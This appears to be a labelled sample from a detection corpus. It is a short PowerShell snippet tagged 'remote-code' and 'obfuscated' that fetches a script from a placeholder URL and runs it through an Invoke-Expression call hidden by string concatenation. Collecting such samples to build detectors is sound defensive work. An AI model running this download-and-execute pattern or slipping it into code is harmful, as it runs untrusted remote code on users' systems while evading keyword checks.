# description: Invokes iex by a concatenated name with the dot operator on downloaded content.
# family: remote-code
# obfuscated: yes
$code = irm 'https://example.com/a.ps1'
.('i' + 'ex') $code
